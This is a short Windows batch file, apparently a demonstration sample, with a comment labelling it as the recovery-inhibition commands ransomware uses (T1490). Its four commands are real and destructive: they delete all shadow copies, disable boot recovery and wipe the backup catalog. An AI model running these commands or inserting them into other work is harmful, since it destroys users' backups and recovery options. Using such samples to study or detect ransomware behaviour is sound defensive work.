@echo off
rem DEMO ONLY: the commands ransomware runs to stop recovery (T1490). Never run this.
vssadmin delete shadows /all /quiet
wmic shadowcopy delete
bcdedit /set {default} recoveryenabled no
wbadmin delete catalog -quiet
